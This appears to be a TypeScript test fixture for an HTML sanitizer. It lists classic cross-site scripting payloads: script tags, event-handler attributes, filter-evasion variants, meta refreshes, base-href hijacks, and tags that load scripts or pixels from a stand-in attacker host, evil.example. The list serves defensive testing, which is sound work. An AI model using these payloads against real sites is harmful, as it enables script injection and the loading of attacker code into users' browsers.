import { lines } from './lines.fixture.ts';

/** Well-known scripts and event handlers. */
export const classic = lines(String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt >alert(1)</ScRiPt >
<script src=https://evil.example/x.js></script>
<script src="//evil.example/x.js"></script>
<script type="module">import 'https://evil.example/x.js'</script>
<script type="text/plain">alert(1)</script><script>alert(1)</script>
<script/x>alert(1)</script>
<script	>alert(1)</script>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>/*<p>*/alert(1)/*</p>*/</script>
</script><script>alert(1)</script>
<script>alert(1)</script/>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<IMG SRC=x ONERROR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src=x:x onerror=alert(1)>
<img src onerror=alert(1)>
<img src=/media/x.webp onload=alert(1)>
<img src=/media/x.webp onerror=alert(1)>
<img src=https://evil.example/pixel.gif>
<img src=https://evil.example/pixel.gif alt="a" onerror="alert(1)">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background=https://evil.example/a.gif>
<html onclick=alert(1)>
<p onclick=alert(1)>click</p>
<p onmouseover="alert(1)">over</p>
<p oNcLiCk="alert(1)">click</p>
<p onfocus=alert(1) tabindex=1 autofocus>focus</p>
<p onpointerenter=alert(1)>x</p>
<p onanimationstart=alert(1) style="animation:x 1s">x</p>
<p ontransitionend=alert(1) style="transition:all 1s">x</p>
<p onbeforetoggle=alert(1) popover id=p>x</p><button popovertarget=p>x</button>
<p contenteditable onbeforeinput=alert(1)>x</p>
<details open ontoggle=alert(1)>x</details>
<details/open/ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<search onclick=alert(1)>x</search>
<x onclick=alert(1) tabindex=1>x</x>
<custom-element onconnected=alert(1)>x</custom-element>
<bgsound src="javascript:alert(1)">
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=https://evil.example/x.html>
<link rel=preload as=script href=https://evil.example/x.js>
<link rel=dns-prefetch href=//evil.example>
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta name=referrer content=unsafe-url>
`);
